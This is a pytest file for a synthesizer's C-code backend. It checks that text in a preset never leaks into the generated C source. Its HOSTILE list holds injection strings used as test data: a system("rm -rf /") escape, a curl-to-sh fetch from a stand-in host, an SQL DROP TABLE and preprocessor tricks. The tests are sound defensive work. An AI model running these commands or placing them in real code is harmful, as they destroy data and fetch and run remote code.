"""Generated C never contains text taken from a preset (DESIGN §4)."""

from __future__ import annotations

import copy
import re

from sheafsynth.engine.backends.c import build
from sheafsynth.engine.backends.c.emit import generate, num
from sheafsynth.engine.errors import BuildError
from sheafsynth.engine.instrument import Instrument
from sheafsynth.engine.ir.lower import lower
from sheafsynth.engine.preset import load_preset

HOSTILE = [
    '*/ #include <stdlib.h>\nint main(){system("rm -rf /");} /*',
    "$(curl evil.invalid | sh); `reboot`",
    "\"; exit(1); //",
    "#define float double\n#pragma GCC poison render",
    "'; DROP TABLE presets; --",
]


def hostile_preset() -> dict:
    text = " ".join(HOSTILE)
    return {
        "format": "sheafsynth-preset", "version": 1, "name": text[:200], "about": text,
        "parameters": {"zq_param_7x": {"value": 0.5, "min": 0.0, "max": 1.0, "unit": HOSTILE[1][:32],
                                       "about": HOSTILE[0]}},
        "cells": [
            {"id": "zq_line_7x", "kind": "delay", "length": "pitch", "about": HOSTILE[2]},
            {"id": "zq-damp-7x", "kind": "statespace", "A": [[0]], "B": [[1]], "C": [["zq_param_7x"]],
             "D": [[{"param": "zq_param_7x", "scale": -1, "offset": 1}]], "about": HOSTILE[3]},
            {"id": "zq_tune_7x", "kind": "allpass", "delay": "pitch-fraction", "about": HOSTILE[4]},
        ],
        "wires": [
            {"from": "excite", "to": "zq_line_7x", "about": HOSTILE[0]},
            {"from": "zq_line_7x", "to": "zq-damp-7x", "gain": 0.99},
            {"from": "zq-damp-7x", "to": "zq_tune_7x"},
            {"from": "zq_tune_7x", "to": "zq_line_7x"},
            {"from": "zq_line_7x", "to": "out", "gain": 0.5},
        ],
        "controls": [{"cc": 74, "parameter": "zq_param_7x"}],
    }


def _texts(doc) -> list[str]:
    out = []
    if isinstance(doc, dict):
        for k, v in doc.items():
            out.append(k)
            out.extend(_texts(v))
    elif isinstance(doc, list):
        for v in doc:
            out.extend(_texts(v))
    elif isinstance(doc, str):
        out.append(doc)
    return out


def test_no_preset_text_in_generated_c():
    doc = hostile_preset()
    src = generate(lower(load_preset(doc)))
    for text in _texts(doc):
        if text.startswith("zq") or len(text) > 12:
            assert text not in src, f"preset text {text[:40]!r} leaked into the C source"
    for fragment in ("system(", "rm -rf", "curl", "DROP TABLE", "poison", "zq"):
        assert fragment not in src
    # every identifier is generated: no identifier contains preset ids
    idents = set(re.findall(r"[A-Za-z_][A-Za-z0-9_]*", src))
    assert not [i for i in idents if "zq" in i]


def test_hostile_preset_compiles_strictly_and_plays():
    inst = Instrument(hostile_preset(), strict=True)
    inst.note_on(60, 100)
    out = inst.render(4800)
    assert abs(out).max() > 0.01


def test_numbers_are_validated_before_printing():
    import pytest

    for bad in (float("nan"), float("inf"), 1e300):
        with pytest.raises(BuildError):
            num(bad)


def test_second_load_uses_the_cache_without_compiling():
    doc = copy.deepcopy(hostile_preset())
    doc["cells"][1]["A"] = [[0.0125]]     # a network no other test compiles
    first = Instrument(doc)
    before = build.compile_count()
    second = Instrument(doc)
    assert build.compile_count() == before, "the compiler ran again for an unchanged preset"
    assert second.cached
    assert first.module.path == second.module.path
